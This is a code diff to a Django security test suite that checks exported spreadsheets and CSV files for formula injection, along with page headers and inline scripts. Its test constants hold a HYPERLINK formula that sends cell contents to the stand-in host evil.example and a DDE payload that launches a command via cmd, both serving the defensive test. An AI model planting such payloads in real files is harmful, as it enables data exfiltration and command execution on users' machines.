@@ -25,6 +25,7 @@ from institutions.models import Institution
 from tests.access.addresses import ALL
 from tests.access.test_anonymous import address
 from tests.access.world import World
+from tests.exporting import content_of, exported
 from tests.security.pages import Page, inner_links, loose_in
 from tests.security.walking import visits
 
@@ -42,7 +43,7 @@ GIVEN_OUT |= {PartnerLetterPrinted.code}
 NOBODYS = {"import-template", "log-anchor-file", "log-key", "log-verifier"}
 # What any program fetches to check a signature: anybody's, and kept for an hour (tests/sealing/test_authority.py).
 FOR_EVERYBODY = {"authority-certificate", "revocation-list"}
-LEDGERS = {"agreement-export", "filing-export", "coverage-export"}
+LEDGERS = ("agreements", "filings", "coverage")
 FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"点击")'
 COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -77,6 +78,11 @@ def texts_of(content: bytes) -> Iterator[tuple[str, bool]]:
                     yield cell.value, cell.data_type == "s" and bool(cell.quotePrefix)
     else:
         yield from ((text, False) for line in csv.reader(StringIO(content.decode("utf-8-sig"))) for text in line)
+
+
+def formulas_in(content: bytes) -> Iterator[str]:
+    """Yield the texts that a program might compute."""
+    return (text for text, marked in texts_of(content) if text.startswith(FORMULAS) and not marked)
 
 
 class Inline(HTMLParser):
@@ -134,7 +140,6 @@ def test_every_page_and_every_file(hostile: None, world: World, request: pytest.
     """Headers; nothing inline or loose in pages, no link refused; of every file an entry; no formula in sheets."""
     wrong: list[str] = []
     files: set[str] = set()
-    sheets: dict[str, str] = {}
     offered: dict[User, set[str]] = {}
     for visit in visits(world, request):
         if visit.name in FOR_EVERYBODY:
@@ -150,9 +155,7 @@ def test_every_page_and_every_file(hostile: None, world: World, request: pytest.
             wrong += [f"{visit}: {what}" for what in loose_in(page)]
             offered.setdefault(visit.user, set()).update(inner_links(page, visit.url))
         if "spreadsheet" in kind or "csv" in kind:
-            texts = list(texts_of(content))
-            sheets[visit.name] = "\n".join(text for text, _ in texts)
-            wrong += [f"{visit}: formula {text}" for text, marked in texts if text.startswith(FORMULAS) and not marked]
+            wrong += [f"{visit}: formula {text}" for text in formulas_in(content)]
         if response.get("Content-Disposition", "").startswith("attachment"):
             files.add(visit.name)
             entries = Entry.objects.filter(event__in=GIVEN_OUT).count() - before
@@ -162,8 +165,21 @@ def test_every_page_and_every_file(hostile: None, world: World, request: pytest.
                 wrong.append(f"{visit}: given out by another way than boundary.serving")
     wrong += refused(client, offered)
     assert not wrong, "\n".join(wrong)
-    assert {*LEDGERS, "copy-download", "scan-file"} <= files
-    assert all(FORMULA in sheets[name] and f"'{FORMULA}" not in sheets[name] for name in LEDGERS)
+    assert {"export-file", "copy-download", "scan-file"} <= files
+
+
+@pytest.mark.django_db
+def test_no_list_that_is_taken_along_computes(
+    hostile: None, world: World, client: Client, health_reviewer: User
+) -> None:
+    client.force_login(health_reviewer)
+    for slug in LEDGERS:
+        asked = {"code": str(world["county"]["code"])} if slug == "coverage" else {}
+        content = content_of(exported(client, slug, asked))
+        said = "\n".join(text for text, _ in texts_of(content))
+        assert not list(formulas_in(content)), slug
+        assert FORMULA in said, slug
+        assert f"'{FORMULA}" not in said, slug
 
 
 def test_no_template_and_no_script_of_ours_is_inline() -> None:
